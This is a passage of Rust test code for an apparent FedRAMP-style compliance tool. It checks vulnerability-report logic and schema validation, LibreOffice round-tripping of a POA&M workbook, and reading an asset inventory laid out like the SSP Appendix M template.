    assert_eq!(report.items_without_vdr_facts, ["V-23"]);
    assert_eq!(report.accepted_vulnerabilities.len(), 1);
    let acc = &report.accepted_vulnerabilities[0];
    assert_eq!(acc.provider_tracking_id, "V-18");
    assert!(acc.acceptance_explanation.contains("192 days"), "{}", acc.acceptance_explanation);
    let by_id = |id: &str| report.vulnerability_details.iter().find(|v| v.provider_tracking_id == id).unwrap();
    let late = by_id("V-20");
    assert!(late.overdue_status.is_overdue);
    assert!(late.overdue_status.explanation.as_deref().unwrap().contains("2026-07-09"), "{:?}", late.overdue_status);
    assert_eq!(late.next_reduction.as_ref().unwrap().target_n_rating, 3);
    let ok = by_id("V-21");
    assert!(!ok.overdue_status.is_overdue);
    assert_eq!(ok.final_disposition, None);
    assert_eq!(by_id("V-22").final_disposition, Some(vdr::FinalDisposition::FalsePositive));
    // The day before the 192-day mark, V-18 is still a detail, not accepted.
    let before = vdr::report(&poam, &policy, AsOf::date(d("2026-07-15"))).unwrap();
    assert!(before.accepted_vulnerabilities.is_empty());

    // The JSON validates against the schema written from the rule text, which is not vacuous.
    let schema: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(conmon_tests::workspace_root().join("schema/vdr-report.schema.json")).unwrap(),
    )
    .unwrap();
    let validator = jsonschema::validator_for(&schema).unwrap();
    let json = serde_json::to_value(&report).unwrap();
    let errors: Vec<String> = validator.iter_errors(&json).map(|e| format!("{e} at {}", e.instance_path())).collect();
    assert!(errors.is_empty(), "{errors:#?}");
    assert_eq!(json["vulnerabilityDetails"][0]["finalDisposition"], serde_json::Value::Null);
    let mut bad = json.clone();
    bad["vulnerabilityDetails"][0]["overdueStatus"] = serde_json::json!({ "isOverdue": true });
    assert!(!validator.is_valid(&bad), "an overdue vulnerability without an explanation must be rejected");
    let mut bad = json.clone();
    bad["vulnerabilityDetails"][0]["nRating"] = serde_json::json!(6);
    assert!(!validator.is_valid(&bad));
    let mut bad = json;
    bad["vulnerabilityDetails"][0]["finalDisposition"] = serde_json::json!("Remediated");
    assert!(!validator.is_valid(&bad));
}

/// LibreOffice's `soffice`, when installed (scripts/test.sh installs Debian's
/// libreoffice-calc-nogui when it can).
fn soffice() -> Option<std::path::PathBuf> {
    ["/usr/bin/soffice", "/usr/local/bin/soffice", "/usr/bin/libreoffice"]
        .iter()
        .map(std::path::PathBuf::from)
        .find(|p| p.exists())
}

/// The written workbook opens in LibreOffice, which converts every sheet to CSV with the same
/// cell values (dates as shown, yyyy-mm-dd; risky text as the original text).
#[test]
fn libreoffice_opens_the_workbook_and_reads_the_same_values() {
    let Some(soffice) = soffice() else {
        eprintln!("skipped: LibreOffice is not installed (apt-get install libreoffice-calc-nogui)");
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("poam.xlsx");
    let mut poam = sample_poam(300, 5);
    poam.open.extend(risky_poam().open.into_iter().map(|mut i| {
        i.poam_id = format!("R-{}", i.poam_id);
        i
    }));
    xlsx::write_poam_file(&poam, &path).unwrap();
    let profile = format!("-env:UserInstallation=file://{}", dir.path().join("profile").display());
    // Filter options: comma, double quote, UTF-8, from line 1, ..., cell contents as shown,
    // every sheet to its own file (-1).
    let filter = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1";
    let out = std::process::Command::new(&soffice)
        .args([profile.as_str(), "--headless", "--convert-to", filter, "--outdir"])
        .arg(dir.path())
        .arg(&path)
        .output()
        .unwrap();
    assert!(out.status.success(), "soffice failed: {}", String::from_utf8_lossy(&out.stderr));
    let sheets = [("Open POA&M Items", &poam.open), ("Closed POA&M Items", &poam.closed)];
    for (sheet, items) in sheets {
        let csv_path = dir.path().join(format!("poam-{sheet}.csv"));
        let text = std::fs::read_to_string(&csv_path).unwrap_or_else(|e| {
            panic!(
                "{}: {e}; files: {:?}",
                csv_path.display(),
                std::fs::read_dir(dir.path()).unwrap().map(|e| e.unwrap().file_name()).collect::<Vec<_>>()
            )
        });
        let mut r = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
        let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
        let headers: Vec<&str> = rows[4].iter().take(31).collect();
        let want: Vec<&str> = conmon_core::io::template::COLUMNS.iter().map(|c| c.header).collect();
        assert_eq!(headers, want, "{sheet} headers");
        assert!(rows.len() >= 5 + items.len(), "{sheet}: {} rows", rows.len());
        for (item, row) in items.iter().zip(&rows[5..]) {
            for (c, cell) in conmon_core::io::template::cells(item).iter().enumerate() {
                let expect = match cell {
                    conmon_core::io::template::Cell::Empty => String::new(),
                    conmon_core::io::template::Cell::Text(s) => s.to_string(),
                    conmon_core::io::template::Cell::Date(d) => d.to_string(),
                };
                let got = row.get(c).unwrap_or("");
                assert_eq!(
                    got.replace("\r\n", "\n"),
                    expect.replace("\r\n", "\n"),
                    "{sheet} {} column {}",
                    item.poam_id,
                    c + 1
                );
            }
        }
    }
}

/// An inventory laid out like the SSP Appendix M template (label column A, title row 1, headers
/// on row 2, guidance rows, example rows) with real assets after them.
#[test]
fn an_inventory_in_the_template_layout_reads_its_assets() {
    use rust_xlsxwriter::{Format, Workbook};
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("iiw.xlsx");
    let mut wb = Workbook::new();
    wb.add_worksheet().set_name("INSTRUCTIONS").unwrap();
    let ws = wb.add_worksheet();
    ws.set_name("Inventory").unwrap();
    ws.write(0, 0, "DELETE COLUMN A AND ROWS 3-12  BEFORE SUBMISSION").unwrap();
    let headers = [
        "UNIQUE ASSET IDENTIFIER",
        "IPv4 or IPv6 Address",
        "Virtual",
        "Public",
        "DNS Name or URL",
        "NetBIOS Name",
        "MAC Address",
        "Authenticated Scan",
        "Baseline Configuration Name",
        "OS Name and Version",
        "Location",
        "Asset Type",
        "Hardware Make/Model",
        "In Latest Scan",
        "Software/ Database Vendor",
        "Software/ Database Name & Version",
        "Patch Level",
        "Diagram Label",
        "Comments",
        "Serial #/Asset Tag#",
        "VLAN/\nNetwork ID",
        "System Administrator/ Owner",
        "Application Administrator/ Owner",
        "Function",
        "End-of-Life ",
    ];
    for (c, h) in headers.iter().enumerate() {
        ws.write(1, 1 + c as u16, *h).unwrap();
    }
    ws.write(2, 0, "GUIDANCE").unwrap();
    ws.write(2, 1, "Unique Identifier associated with the asset").unwrap();
    ws.write(3, 0, "Valid Values").unwrap();
    ws.write(3, 1, "Must be unique.").unwrap();
    ws.write(4, 0, "OS/Infrastructure Example").unwrap();
    ws.write(4, 1, "123.45.78.90").unwrap();
    let date = Format::new().set_num_format("m/d/yyyy");
    let rows: [(&str, &str, &str, &str, &str); 3] = [
        ("10.0.0.5", "10.0.0.5\n10.0.0.6", "Yes", "Yes", "Web Server"),
        ("db.acme.internal", "10.0.1.9", "No", "no", "Database"),
        ("registry.acme.io/app/api:1.4.2", "sha256:0f1e2d", "Yes", "", "Container"),
    ];
    for (r, (id, ip, auth, scan, kind)) in rows.iter().enumerate() {
        let row = 12 + r as u32;
        ws.write(row, 1, *id).unwrap();
        ws.write(row, 2, *ip).unwrap();
        ws.write(row, 3, "Yes").unwrap();
        ws.write(row, 8, *auth).unwrap();
        ws.write(row, 12, *kind).unwrap();
        if !scan.is_empty() {
            ws.write(row, 14, *scan).unwrap();
        }
    }
    ws.write_date_with_format(12, 25, d("2028-06-30"), &date).unwrap();
    ws.write(13, 25, "12/31/2027").unwrap();
    ws.write(14, 4, "maybe").unwrap();
    wb.save(&path).unwrap();

    let got = xlsx::read_inventory(&path).unwrap();
    let ids: Vec<&str> = got.assets.iter().map(|a| a.identifier.as_str()).collect();
    assert_eq!(ids, ["10.0.0.5", "db.acme.internal", "registry.acme.io/app/api:1.4.2"]);
    let a = &got.assets[0];
    assert_eq!(a.ips, ["10.0.0.5", "10.0.0.6"]);
    assert_eq!(a.authenticated_scan, Some(true));
    assert_eq!(a.in_latest_scan, Some(true));
    assert_eq!(a.is_virtual, Some(true));
    assert_eq!(a.asset_type.as_deref(), Some("Web Server"));
    assert_eq!(a.end_of_life, Some(d("2028-06-30")));
    assert_eq!(a.row, 13);
    assert_eq!(got.assets[1].in_latest_scan, Some(false));
    assert_eq!(got.assets[1].end_of_life, Some(d("2027-12-31")));
    assert_eq!(got.assets[2].in_latest_scan, None);
    // `maybe` in Public (column E) is reported with its place.
    assert_eq!(got.problems.len(), 1, "{:?}", got.problems);
    let p = &got.problems[0].location;
    assert_eq!((p.sheet.as_deref(), p.row, p.column), (Some("Inventory"), Some(15), Some(5)));
}
